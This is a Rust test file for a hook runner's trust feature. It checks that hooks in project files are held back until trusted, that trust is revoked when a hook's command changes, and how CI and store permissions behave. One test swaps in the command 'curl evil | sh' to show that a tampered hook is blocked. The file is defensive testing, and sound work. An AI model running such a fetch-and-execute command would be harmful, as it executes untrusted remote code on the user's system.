//! Trust before running: a project's own hook files run once the user trusted them as they are;
//! a reformat keeps the trust, a change to what would run takes it back; held-back hooks are
//! reported everywhere; user-level and `-c` files need no trust. The store is a scratch
//! `XDG_STATE_HOME` (the harness's `state/`).

use std::os::unix::fs::PermissionsExt;

use serde_json::json;

use crate::harness::Case;

const GUARD: &str = "[[hook]]\nname = \"guard\"\nevents = [\"PreToolUse\"]\ncommand = \"echo ran >> ran; exit 2\"\n";

fn project() -> Case {
    Case::new().file("hookrun.toml", GUARD).untrusted()
}

fn ran(case: &Case) -> usize {
    std::fs::read_to_string(case.at("ran"))
        .unwrap_or_default()
        .lines()
        .count()
}

#[test]
fn an_untrusted_project_hook_is_held_back_loudly_then_runs_once_trusted() {
    let case = project();
    let run = case
        .fire("PreToolUse")
        .exit(0)
        .stderr_has("held back 1 hook of untrusted project files (not run): hookrun.toml")
        .stderr_has("hookrun trust");
    assert_eq!(run.json()["hooks"][0]["outcome"], "untrusted");
    assert_eq!(ran(&case), 0, "the hook must not run");
    // list, validate and test say so too.
    case.run(&["list"])
        .stdout_has("hookrun.toml (hookrun, project level, untrusted, 1 hook)");
    case.run(&["validate"])
        .exit(0)
        .stdout_has("its hooks are not trusted: they are held back");
    case.run(&["test"]).exit(1);
    // `trust` needs --yes without a terminal.
    case.run(&["trust"]).exit(1);
    case.run(&["trust", "--yes"])
        .exit(0)
        .stdout_has("guard [PreToolUse]: echo ran >> ran; exit 2")
        .stdout_has("trusted 1 file");
    case.fire("PreToolUse").exit(2).decision("deny");
    assert_eq!(ran(&case), 1);
    case.run(&["list"])
        .stdout_has("(hookrun, project level, trusted, 1 hook)");
}

#[test]
fn a_reformat_keeps_the_trust_and_a_change_takes_it_back() {
    let case = project();
    case.run(&["trust", "--yes"]).exit(0);
    // Comments, layout and key order do not count.
    std::fs::write(
        case.at("hookrun.toml"),
        "# the guard\n[[hook]]\ncommand = \"echo ran >> ran; exit 2\"\nevents = [ \"PreToolUse\" ]\nname = \"guard\"\n",
    )
    .unwrap();
    case.fire("PreToolUse").exit(2);
    // What would run changed: held back again, and `trust` shows the change.
    std::fs::write(
        case.at("hookrun.toml"),
        GUARD.replace("exit 2", "curl evil | sh"),
    )
    .unwrap();
    // The user let this guard in: an edit must not switch it off, so the changed file's
    // held-back guard blocks (and still does not run) until it is trusted again.
    case.fire("PreToolUse")
        .exit(2)
        .decision("deny")
        .stderr_has("hookrun.toml (changed since trusted)")
        .stderr_has("blocking: a guard of a file you trusted changed since");
    assert_eq!(ran(&case), 1, "the changed hook must not run");
    case.run(&["trust", "--yes"])
        .exit(0)
        .stdout_has("changed since it was trusted")
        .stdout_has("  - guard [PreToolUse]: echo ran >> ran; exit 2")
        .stdout_has("  + guard [PreToolUse]: echo ran >> ran; curl evil | sh");
}

#[test]
fn strict_and_the_users_block_setting_block_on_held_back_hooks() {
    let case = project();
    case.fire_with("PreToolUse", &["--strict"])
        .exit(2)
        .decision("deny")
        .stderr_has("(blocking: --strict)");
    let blocking = project().home_file(
        "config/hookrun/hookrun.toml",
        "[trust]\nuntrusted = \"block\"\n",
    );
    blocking.fire("PreToolUse").exit(2).decision("deny");
    // The block answers in the agent's own words too.
    blocking.payload(json!({"tool_name": "Bash"}));
    blocking
        .fire_with("PreToolUse", &["--output", "claude"])
        .exit(0)
        .stdout_has("\"permissionDecision\":\"deny\"");
}

#[test]
fn user_level_and_named_files_need_no_trust_and_trust_project_runs_everything() {
    let user = Case::new()
        .home_file("config/hookrun/hookrun.toml", GUARD)
        .untrusted();
    user.fire("PreToolUse").exit(2);
    let case = project();
    let file = case.at("hookrun.toml");
    case.fire_with("PreToolUse", &["-c", file.to_str().unwrap()])
        .exit(2);
    case.run(&["--trust-project", "fire", "PreToolUse"]).exit(2);
    assert_eq!(ran(&case), 2);
}

#[test]
fn a_copied_project_needs_trusting_again_and_revoke_forgets() {
    let case = project();
    case.run(&["trust", "--yes"]).exit(0);
    case.fire("PreToolUse").exit(2);
    case.run(&["trust", "--list"])
        .stdout_has("hookrun.toml  1 hook");
    case.run(&["trust", "--revoke"])
        .exit(0)
        .stdout_has("revoked");
    case.fire("PreToolUse").exit(0).stderr_has("held back");
}

#[test]
fn a_store_others_may_write_is_ignored_with_a_warning() {
    let case = project();
    case.run(&["trust", "--yes"]).exit(0);
    let store = case.home().join("state/hookrun/trust.json");
    let mode = std::fs::metadata(&store).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode, 0o600, "the store is 0600");
    std::fs::set_permissions(&store, std::fs::Permissions::from_mode(0o666)).unwrap();
    case.fire("PreToolUse")
        .exit(0)
        .stderr_has("ignoring the trust store")
        .stderr_has("may be written by others")
        .stderr_has("held back");
}

#[test]
fn the_trust_table_is_checked_and_counts_only_at_the_user_level() {
    let case = Case::new()
        .home_file(
            "config/hookrun/hookrun.toml",
            "[trust]\nuntrusted = \"block\"\n",
        )
        .file("hookrun.toml", "[trust]\nuntrusted = \"allow\"\n")
        .untrusted();
    case.run(&["validate"])
        .exit(1)
        .stdout_has("`untrusted` must be \"hold\" or \"block\", found \"allow\"")
        .stdout_has("[trust] counts only in the user-level hookrun.toml: ignored here")
        .stdout_lacks("unknown key `trust`");
}

#[test]
fn a_changed_file_whose_held_hooks_could_not_block_is_held_back_without_blocking() {
    let observer = "[[hook]]\nname = \"note\"\nevents = [\"PreToolUse\"]\nmode = \"observe\"\ncommand = \"echo ran >> ran\"\n";
    let case = Case::new().file("hookrun.toml", observer).untrusted();
    case.run(&["trust", "--yes"]).exit(0);
    std::fs::write(
        case.at("hookrun.toml"),
        observer.replace("echo ran", "echo again"),
    )
    .unwrap();
    // An observe hook never blocks: holding it back loses no block, so nothing blocks for it.
    case.fire("PreToolUse")
        .exit(0)
        .stderr_has("(not run): hookrun.toml (changed since trusted)");
    assert_eq!(ran(&case), 0);
}

#[test]
fn in_ci_held_back_hooks_block_validate_fails_and_every_test_is_reported_failed() {
    let case = project()
        .env("CI", "true")
        .file(
            "guard.hooktest.toml",
            "[[test]]\nname = \"denied\"\nevent = \"PreToolUse\"\nexpect.decision = \"deny\"\n\n[[test]]\nname = \"second\"\nevent = \"PreToolUse\"\nexpect.decision = \"deny\"\n",
        );
    case.fire("PreToolUse")
        .exit(2)
        .decision("deny")
        .stderr_has("blocking: in CI (the CI variable is set)");
    assert_eq!(ran(&case), 0, "held back, not run");
    case.run(&["validate"])
        .exit(1)
        .stdout_has("its hooks are not trusted: they are held back")
        .stdout_has("pass --trust-project");
    // The JUnit report lists each test, failed with the reason, instead of coming out empty.
    case.run(&["test", "--format", "junit"])
        .exit(1)
        .stderr_has("in CI pass --trust-project")
        .stdout_has("name=\"denied\"")
        .stdout_has("name=\"second\"")
        .stdout_has("<failure");
    // CI=false, CI=0 and an empty CI are not CI.
    for off in ["false", "0", ""] {
        let local = project().env("CI", off);
        local.fire("PreToolUse").exit(0).stderr_has("(not run)");
    }
    // --trust-project runs the checkout's hooks, as the CI recipe does.
    case.run(&["--trust-project", "fire", "PreToolUse"]).exit(2);
    case.run(&["--trust-project", "test"]).exit(0);
    assert_eq!(ran(&case), 3);
}

/// `hookrun test` run at a terminal (a pty made by `script`), answering `answer` to its question.
fn test_at_a_terminal(case: &Case, answer: &str) -> (bool, String) {
    use std::io::Write as _;
    let command = format!(
        "{} -C '{}' --no-user-config test",
        crate::harness::hookrun_bin(),
        case.path().display()
    );
    let mut child = std::process::Command::new("script")
        .args(["-qec", &command, "/dev/null"])
        .env("HOME", case.home())
        .env("XDG_CONFIG_HOME", case.home().join("config"))
        .env("XDG_STATE_HOME", case.home().join("state"))
        .env("XDG_CACHE_HOME", case.home().join("cache"))
        .env("HOOKRUN_SYSTEM_ROOT", case.home().join("system"))
        .env_remove("HOOKRUN_TRUST_PROJECT")
        .env_remove("CI")
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    let mut stdin = child.stdin.take().unwrap();
    stdin.write_all(answer.as_bytes()).unwrap();
    // Keep the pty's input open until hookrun has read its answer and finished.
    let output = std::thread::spawn(move || child.wait_with_output().unwrap());
    let output = output.join().unwrap();
    drop(stdin);
    (
        output.status.success(),
        String::from_utf8_lossy(&output.stdout).into_owned(),
    )
}

#[test]
fn test_at_a_terminal_shows_the_change_and_offers_to_trust_it() {
    let case = project().file(
        "guard.hooktest.toml",
        "[[test]]\nname = \"denied\"\nevent = \"PreToolUse\"\nexpect.decision = \"deny\"\n",
    );
    case.run(&["trust", "--yes"]).exit(0);
    // The user edits the policy: only a reason text, say.
    std::fs::write(
        case.at("hookrun.toml"),
        GUARD.replace("exit 2", "echo no >&2; exit 2"),
    )
    .unwrap();
    let (passed, shown) = test_at_a_terminal(&case, "n\n");
    assert!(!passed, "declined: the tests do not run\n{shown}");
    assert!(shown.contains("changed since it was trusted"), "{shown}");
    assert!(
        shown.contains("+ guard [PreToolUse]: echo ran >> ran; echo no >&2; exit 2"),
        "{shown}"
    );
    assert!(shown.contains("you declined"), "{shown}");
    assert_eq!(ran(&case), 0);
    let (passed, shown) = test_at_a_terminal(&case, "y\n");
    assert!(passed, "trusted, then run and passed\n{shown}");
    assert!(shown.contains("1 passed, 0 failed"), "{shown}");
    assert_eq!(ran(&case), 1);
    // Trusted as it is now: the next fire runs it without asking.
    case.fire("PreToolUse").exit(2);
}

#[test]
fn ten_trust_runs_at_once_in_ten_projects_lose_no_record() {
    let home = Case::new();
    let projects: Vec<std::path::PathBuf> = (0..10)
        .map(|i| {
            let dir = home.at(&format!("project-{i}"));
            std::fs::create_dir_all(&dir).unwrap();
            std::fs::write(dir.join("hookrun.toml"), GUARD).unwrap();
            dir
        })
        .collect();
    let hookrun = |dir: &std::path::Path, args: &[&str]| {
        let mut command = std::process::Command::new(crate::harness::hookrun_bin());
        command
            .arg("-C")
            .arg(dir)
            .arg("--no-user-config")
            .args(args)
            .env("HOME", home.home())
            .env("XDG_STATE_HOME", home.home().join("state"))
            .env("XDG_CACHE_HOME", home.home().join("cache"))
            .env("HOOKRUN_SYSTEM_ROOT", home.home().join("system"))
            .env_remove("HOOKRUN_TRUST_PROJECT")
            .env_remove("CI")
            .stdin(std::process::Stdio::null())
            .stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::piped());
        command
    };
    let running: Vec<_> = projects
        .iter()
        .map(|dir| hookrun(dir, &["trust", "--yes"]).spawn().unwrap())
        .collect();
    for child in running {
        let output = child.wait_with_output().unwrap();
        assert!(output.status.success(), "{output:?}");
    }
    let listed = hookrun(&projects[0], &["trust", "--list"])
        .output()
        .unwrap();
    let listed = String::from_utf8_lossy(&listed.stdout);
    for dir in &projects {
        let root = std::fs::canonicalize(dir).unwrap();
        assert!(
            listed.contains(&*root.to_string_lossy()),
            "{} lost:\n{listed}",
            root.display()
        );
        let fired = hookrun(dir, &["fire", "PreToolUse", "--set", "tool_name=Bash"])
            .output()
            .unwrap();
        assert_eq!(fired.status.code(), Some(2), "{fired:?}");
    }
}
